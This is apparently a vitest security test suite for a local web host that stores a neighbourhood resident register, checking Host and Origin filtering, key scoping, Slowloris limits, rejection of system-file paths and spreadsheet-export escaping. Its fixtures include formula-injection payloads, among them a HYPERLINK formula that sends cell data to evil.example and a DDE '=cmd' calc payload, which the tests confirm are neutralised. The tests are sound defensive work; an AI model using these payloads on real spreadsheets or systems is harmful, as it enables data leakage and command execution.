import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { startHost, freshDataDir, type RunningHost } from '../helpers/host';
import { signInOperator } from '../helpers/e2e';
import { solidPng, writeMbtiles } from '../fixtures/mbtiles';
import { notMbtilesMessage } from '../../main/services/basemap';
import { parseCsv } from '../../main/services/import/csv';

/**
 * Issue 9, probed as another program or web page on the same machine would: a real host (dist/main/host.cjs, built
 * by `npx node scripts/build.mjs`) started under umask 022, the most common one.
 */

interface Answer {
  status: number;
  headers: http.IncomingHttpHeaders;
  text: string;
}

/** A request with any headers at all (fetch will not send a foreign Host). */
function raw(host: RunningHost, opts: { method?: string; path: string; headers?: Record<string, string>; body?: string }): Promise<Answer> {
  const port = Number(new URL(host.origin).port);
  return new Promise((resolve, reject) => {
    const req = http.request(
      { host: '127.0.0.1', port, method: opts.method ?? 'GET', path: opts.path, headers: { Host: `127.0.0.1:${port}`, ...opts.headers } },
      (res) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (d) => (text += d));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, text }));
      },
    );
    req.on('error', reject);
    req.end(opts.body);
  });
}

const json = { 'Content-Type': 'application/json' };

function modeOf(file: string): string {
  return (fs.statSync(file).mode & 0o777).toString(8);
}

async function importOverHost(host: RunningHost, kind: string, fileName: string, content: string | Buffer) {
  const base = { kind, fileName, contentBase64: Buffer.from(content).toString('base64'), encoding: 'auto' };
  const preview = await host.call<{ mapping: Record<string, string | null>; replacements: unknown[] }>('previewImport', base);
  if (!preview.ok) throw new Error(preview.error?.message);
  // As a user clicking through: what the preview says is replaced is confirmed.
  const r = await host.call('commitImport', { ...base, mapping: preview.value!.mapping, confirmReplace: preview.value!.replacements.length > 0 });
  if (!r.ok) throw new Error(r.error?.message);
}

const square = (lng: number, lat: number, s: number) => [[[lng, lat], [lng + s, lat], [lng + s, lat + s], [lng, lat + s], [lng, lat]]];
const communities = JSON.stringify({
  type: 'FeatureCollection',
  features: [{ type: 'Feature', properties: { code: 'C01', name: '东风社区' }, geometry: { type: 'Polygon', coordinates: square(106.49, 29.52, 0.02) } }],
});
const compounds = JSON.stringify({
  type: 'FeatureCollection',
  features: [
    {
      type: 'Feature',
      properties: { code: 'P01', name: '幸福小区', communityCode: 'C01', residents: 3, households: 2, elderly: 1 },
      geometry: { type: 'Polygon', coordinates: square(106.492, 29.522, 0.004) },
    },
  ],
});
const evilName = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")';
const register = [
  '小区编码,楼栋,户号,姓名,性别,出生年份,电话',
  `P01,1栋,1-101,"${evilName.replace(/"/g, '""')}",男,1950,+8613800000001`,
  'P01,1栋,1-101,@SUM(1+1),女,1955,',
  'P01,2栋,-201,张三,男,1990,13800000003',
].join('\r\n');

describe('the browser host against an attacker on the same machine', () => {
  let host: RunningHost;
  let port: number;
  let umask: number;

  beforeAll(async () => {
    umask = process.umask(0o022);
    host = await startHost(freshDataDir('sc-sec'));
    port = Number(new URL(host.origin).port);
    const street = await host.call('createStreet', { code: '500104001', name: '安全测试街道' });
    if (!street.ok) throw new Error(street.error?.message);
    // Every change needs a signed-in operator at the desk (issue 9): the attacker's requests below pass that rule.
    await signInOperator(host, '安全员');
  });
  afterAll(async () => {
    await host?.stop();
    process.umask(umask);
  });

  describe('who may call what', () => {
    test('only Host 127.0.0.1:PORT and localhost:PORT are answered (DNS rebinding), even with the right key', async () => {
      const call = (hostHeader: string) =>
        raw(host, { method: 'POST', path: '/api/getAppInfo', headers: { Host: hostHeader, Authorization: `Bearer ${host.token}`, ...json }, body: '{}' });
      const evil = await call('evil.example');
      expect(evil.status).toBe(421);
      expect(JSON.parse(evil.text).error.message).toContain(`127.0.0.1:${port}`);
      expect((await call(`evil.example:${port}`)).status).toBe(421);
      expect((await call(`127.0.0.1:${port + 1}`)).status).toBe(421);
      expect((await raw(host, { path: '/', headers: { Host: 'evil.example' } })).status).toBe(421); // the page too
      const local = await call(`localhost:${port}`);
      expect(local.status).toBe(200);
      expect(JSON.parse(local.text).ok).toBe(true);
    });

    test('/api takes the key from the Authorization header only, and JSON only: the no-preflight cross-site POST fails', async () => {
      // What a foreign page could send without a CORS preflight: text/plain, key in the URL.
      const simple = await raw(host, { method: 'POST', path: `/api/saveCommunity?token=${host.token}`, headers: { 'Content-Type': 'text/plain' }, body: '{}' });
      expect(simple.status).toBe(401);
      const inUrl = await raw(host, { method: 'POST', path: `/api/getAppInfo?token=${host.token}`, headers: json, body: '{}' });
      expect(inUrl.status).toBe(401);
      for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', undefined]) {
        const headers: Record<string, string> = { Authorization: `Bearer ${host.token}` };
        if (type) headers['Content-Type'] = type;
        const r = await raw(host, { method: 'POST', path: '/api/saveCommunity', headers, body: JSON.stringify({ code: 'X9', name: '不该出现' }) });
        expect(r.status).toBe(415);
        expect(JSON.parse(r.text).error.message).toContain('application/json');
      }
      const listed = await host.call<{ communities: number }>('getStreetSummary');
      expect(listed.value?.communities).toBe(0); // nothing was written
      expect((await host.call('getAppInfo')).ok).toBe(true); // the helper's proper call still works
    });

    test('a request from a foreign Origin is refused, the own origin is not', async () => {
      const call = (origin: string) =>
        raw(host, { method: 'POST', path: '/api/getAppInfo', headers: { Origin: origin, Authorization: `Bearer ${host.token}`, ...json }, body: '{}' });
      expect((await call('http://evil.example')).status).toBe(403);
      expect((await call('null')).status).toBe(403);
      expect((await call(`http://127.0.0.1:${port + 1}`)).status).toBe(403);
      expect((await call(host.origin)).status).toBe(200);
      expect((await call(`http://localhost:${port}`)).status).toBe(200);
    });

    test('the address key only opens the page; the tile key only reads tiles; neither calls /api', async () => {
      const openKey = new URL(host.url).searchParams.get('open')!;
      expect(openKey).toBeTruthy();
      expect(new Set([openKey, host.token, host.tileKey]).size).toBe(3);

      const page = await raw(host, { path: `/?open=${openKey}` });
      expect(page.status).toBe(200);
      expect(page.headers['cache-control']).toBe('no-store');
      expect(page.text).toContain(`<meta name="streetcommand-api-key" content="${host.token}">`);
      expect(page.text).toContain(`<meta name="streetcommand-tile-key" content="${host.tileKey}">`);
      const plain = await raw(host, { path: '/' });
      expect(plain.status).toBe(200);
      expect(plain.text).not.toContain(host.token);
      expect(plain.text).not.toContain(host.tileKey);
      const wrong = await raw(host, { path: '/?open=guess' });
      expect(wrong.status).toBe(401);
      expect(wrong.text).not.toContain(host.token);

      for (const key of [openKey, host.tileKey]) {
        const r = await raw(host, { method: 'POST', path: '/api/getAppInfo', headers: { Authorization: `Bearer ${key}`, ...json }, body: '{}' });
        expect(r.status).toBe(401);
      }

      const tiles = writeMbtiles(path.join(host.dataDir, 'fixtures', 'sec.mbtiles'), { name: 'sec', format: 'png' }, [{ z: 0, x: 0, y: 0, data: solidPng(4, [1, 2, 3]) }]);
      expect((await host.call('setBaseMap', { file: tiles })).ok).toBe(true);
      const tile = await raw(host, { path: `/tiles/0/0/0?key=${host.tileKey}` });
      expect(tile.status).toBe(200);
      expect(tile.headers['content-type']).toBe('image/png');
      for (const key of [openKey, host.token]) expect((await raw(host, { path: `/tiles/0/0/0?key=${key}` })).status).toBe(401);
      expect((await host.call('setBaseMap', { file: null })).ok).toBe(true);
    });
  });

  test('silent and slow connections are closed, past the cap new ones are refused, and a real request is still answered', async () => {
    const opened: { sock: net.Socket; closedAt: number | null }[] = [];
    const t0 = Date.now();
    const connect = () => {
      const entry = { sock: net.connect(port, '127.0.0.1'), closedAt: null as number | null };
      entry.sock.on('error', () => {});
      entry.sock.on('close', () => (entry.closedAt = Date.now() - t0));
      opened.push(entry);
      return entry;
    };
    for (let i = 0; i < 100; i++) connect();
    // Slowloris: a request head that never ends, one byte a second.
    const slow = connect();
    slow.sock.write('GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n');
    const drip = setInterval(() => !slow.sock.destroyed && slow.sock.write('X'), 1000);
    try {
      await new Promise((r) => setTimeout(r, 300));
      // Under the cap: the desk is still served at once.
      expect((await host.call('getAppInfo')).ok).toBe(true);

      for (let i = 0; i < 100; i++) connect();
      await new Promise((r) => setTimeout(r, 1000));
      // 201 silent sockets against a cap of 128 (one more for the call above may still be kept alive): the rest refused at once.
      const refusedAtOnce = opened.filter((o) => o.closedAt !== null).length;
      expect(refusedAtOnce).toBeGreaterThanOrEqual(201 - 128);

      // The idle limit (10 s) closes every silent one; the head timeout (10 s) closes the dripping one. The bound is
      // wide (35 s) because the machine may be loaded; what matters is that they close, not minutes later.
      await expect.poll(() => opened.filter((o) => o.closedAt === null).length, { timeout: 40_000, interval: 250 }).toBe(0);
      expect(slow.closedAt!).toBeLessThan(35_000);
      expect(Math.max(...opened.map((o) => o.closedAt!))).toBeLessThan(35_000);
      expect((await host.call('getAppInfo')).ok).toBe(true);
    } finally {
      clearInterval(drip);
      for (const o of opened) o.sock.destroy();
    }
  }, 90_000);

  describe('setBaseMap gives one answer for every path that is not an MBTiles file', () => {
    const answerFor = async (file: string) => {
      const t = Date.now();
      const r = await host.call('setBaseMap', { file });
      return { ms: Date.now() - t, ok: r.ok, code: r.error?.code, message: r.error?.message };
    };

    test('a FIFO answers at once (it used to block the host forever); missing, folder, device and system files answer the same', async () => {
      const fifo = path.join(host.dataDir, 'pipe.mbtiles');
      execFileSync('mkfifo', [fifo]);
      const paths = [fifo, path.join(host.dataDir, 'missing.mbtiles'), host.dataDir, '/dev/zero', '/etc/passwd', '/etc/shadow', '/root', path.join(host.dataDir, 'host.json')];
      for (const file of paths) {
        const a = await answerFor(file);
        expect(a.ms, file).toBeLessThan(3000);
        expect(a.ok, file).toBe(false);
        expect(a.code, file).toBe('invalid_input');
        expect(a.message, file).toBe(`${notMbtilesMessage}：${path.resolve(file)}。`);
      }
      expect((await host.call('getAppInfo')).ok).toBe(true);
    });

    test.skipIf(process.getuid?.() === 0)('an unreadable SQLite file answers the same (not run as root, who reads everything)', async () => {
      const locked = writeMbtiles(path.join(host.dataDir, 'fixtures', 'locked.mbtiles'), { format: 'png' }, [{ z: 0, x: 0, y: 0, data: solidPng(4, [1, 2, 3]) }]);
      fs.chmodSync(locked, 0);
      const a = await answerFor(locked);
      expect(a).toMatchObject({ ok: false, code: 'invalid_input', message: `${notMbtilesMessage}：${locked}。` });
    });
  });

  describe('exports cannot attack the spreadsheet that opens them', () => {
    beforeAll(async () => {
      const op = await host.call<{ id: number }>('saveOperator', { name: '王值班' });
      if (op.ok) await host.call('signIn', { operatorId: op.value!.id });
      await importOverHost(host, 'communities', 'c.geojson', communities);
      await importOverHost(host, 'compounds', 'p.geojson', compounds);
      await importOverHost(host, 'residents', 'r.csv', register);
    });

    const exported = async (format: 'csv' | 'xlsx') => {
      const r = await host.call<{ contentBase64: string }>('exportData', { kind: 'residents', format });
      if (!r.ok) throw new Error(r.error?.message);
      return Buffer.from(r.value!.contentBase64, 'base64');
    };

    test('register CSV: the would-be formulas start with an apostrophe; numbers stay plain', async () => {
      const lines = (await exported('csv')).subarray(3).toString('utf8').split('\r\n');
      const cells = lines.slice(1).join('\n');
      expect(cells).toContain(`"'${evilName.replace(/"/g, '""')}"`);
      expect(cells).toContain(`'@SUM(1+1)`);
      expect(cells).toContain(`'+8613800000001`);
      expect(cells).toContain(`,'-201,`);
      expect(lines).toContain('P01,2栋,\'-201,张三,男,1990,13800000003');
      for (const cell of parseCsv(lines.join('\r\n')).cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });

    test('register XLSX: no cell is a formula or begins with one; birth years are numbers', async () => {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load((await exported('xlsx')) as unknown as ExcelJS.Buffer);
      const ws = wb.worksheets[0];
      const names: unknown[] = [];
      ws.eachRow((row, n) => {
        if (n === 1) return;
        names.push(row.getCell(4).value);
        expect(typeof row.getCell(6).value).toBe('number');
        row.eachCell((cell) => {
          expect(cell.formula).toBeUndefined();
          if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
        });
      });
      expect(names).toContain(`'${evilName}`);
      expect(names).toContain(`'@SUM(1+1)`);
    });

    test('importing the export again gives the original text back (CSV and XLSX)', async () => {
      for (const format of ['csv', 'xlsx'] as const) {
        await importOverHost(host, 'residents', `again.${format}`, await exported(format));
        const csv = (await exported('csv')).subarray(3).toString('utf8');
        // Exactly one guard apostrophe, not two: the import took it off before storing.
        expect(csv).toContain(`"'${evilName.replace(/"/g, '""')}"`);
        expect(csv).not.toContain(`''=`);
        expect(csv).toContain(`,'-201,张三,`);
        expect(csv).not.toContain(`''-201`);
      }
    });

    test('log CSV: a typed formula is neutralised, the entry number stays a number', async () => {
      const entry = await host.call<{ id: number }>('addLogEntry', { category: 'note', text: '=cmd|" /C calc"!A0' });
      if (!entry.ok) throw new Error(entry.error?.message);
      const out = await host.call<{ csv: string }>('exportLogCsv', { categories: ['note'] });
      const line = out.value!.csv.split('\r\n').find((l) => l.startsWith(`${entry.value!.id},`));
      expect(line).toContain(`"'=cmd|"" /C calc""!A0"`);
    });
  });

  describe('personal data at rest', () => {
    test('under umask 022 the folder is 0700 and the database, WAL, SHM, lock, host.json and backups are 0600', async () => {
      const b = await host.call<{ name: string }>('backupNow');
      if (!b.ok) throw new Error(b.error?.message);
      const d = host.dataDir;
      expect(modeOf(d)).toBe('700');
      for (const f of ['streetcommand.sqlite', 'streetcommand.sqlite-wal', 'streetcommand.sqlite-shm', 'streetcommand.lock', 'host.json']) {
        expect(modeOf(path.join(d, f)), f).toBe('600');
      }
      expect(modeOf(path.join(d, 'backups'))).toBe('700');
      expect(modeOf(path.join(d, 'backups', b.value!.name))).toBe('600');
    });

    test('a folder left readable by others is tightened when the host opens it, and the log says so', async () => {
      await host.stop();
      const d = host.dataDir;
      fs.chmodSync(d, 0o755);
      fs.chmodSync(path.join(d, 'streetcommand.sqlite'), 0o644);
      fs.chmodSync(path.join(d, 'backups'), 0o755);
      const backup = fs.readdirSync(path.join(d, 'backups'))[0];
      fs.chmodSync(path.join(d, 'backups', backup), 0o644);
      host = await startHost(d);
      expect(modeOf(d)).toBe('700');
      expect(modeOf(path.join(d, 'streetcommand.sqlite'))).toBe('600');
      expect(modeOf(path.join(d, 'backups'))).toBe('700');
      expect(modeOf(path.join(d, 'backups', backup))).toBe('600');
      const log = await host.call<{ rows: { text: string; category: string }[] }>('listLogEntries', { categories: ['system'] });
      const entry = log.value!.rows.find((r) => r.text.includes('访问权限已收紧'));
      expect(entry?.text).toContain(`${path.basename(d)} 0755 → 0700`);
      expect(entry?.text).toContain('streetcommand.sqlite 0644 → 0600');
      expect(entry?.text).toContain(`${backup} 0644 → 0600`);
    });
  });
});
